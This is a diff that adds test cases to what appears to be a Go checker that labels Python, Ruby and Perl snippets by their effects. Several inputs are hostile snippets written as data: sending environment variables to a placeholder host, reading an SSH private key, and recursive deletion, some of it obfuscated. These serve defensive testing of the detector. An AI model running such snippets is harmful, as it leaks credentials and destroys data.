@@ -64,6 +64,14 @@ func check(t *testing.T, lang string, cases []codeCase) {
 
 func TestPython(t *testing.T) {
 	check(t, "python", []codeCase{
+		{"import os; os.chdir('/d'); os.remove('x')", "delete x in /d"},
+		{"import requests,os; requests.get('http://h', params=dict(os.environ))", "fetch http://h\nread /proc/self/environ"},
+		{"import os; print(dict(os.environ))", ""},
+		{"import linecache; linecache.getlines('/home/dev/.ssh/id_rsa')", "read /home/dev/.ssh/id_rsa"},
+		{"import os; os.path.exists('/home/dev/.ssh/id_rsa')", ""},
+		{"import shutil; vars(shutil)['rmtree']('/x')", "unsure"},
+		{"import os; list(map(os.system, ['rm -rf /x']))", "unsure"},
+		{"print('rm -rf /x')", ""},
 		{"print(1)", ""},
 		{"import sys; print(sys.version)", ""},
 		{"import json,sys; d=json.load(sys.stdin); print(json.dumps(d, indent=2))", ""},
@@ -153,6 +161,8 @@ func TestNode(t *testing.T) {
 
 func TestRuby(t *testing.T) {
 	check(t, "ruby", []codeCase{
+		{"Dir['/x/*'].each{|f| File.delete(f)}", "delete /x/*"},
+		{"include FileUtils; rm_rf '/x'", "delete! /x"},
 		{"puts RUBY_VERSION", ""},
 		{"require 'json'; puts JSON.pretty_generate(JSON.parse(STDIN.read))", ""},
 		{"puts \"system('x')\"", ""},
@@ -176,6 +186,8 @@ func TestRuby(t *testing.T) {
 
 func TestPerl(t *testing.T) {
 	check(t, "perl", []codeCase{
+		{"open F, '>/x'", "overwrite /x"},
+		{"open F, '>>/x'", "append /x"},
 		{"print 1", ""},
 		{"s/a/b/g", ""},
 		{"print \"$1\\n\" if /x(.*)/", ""},
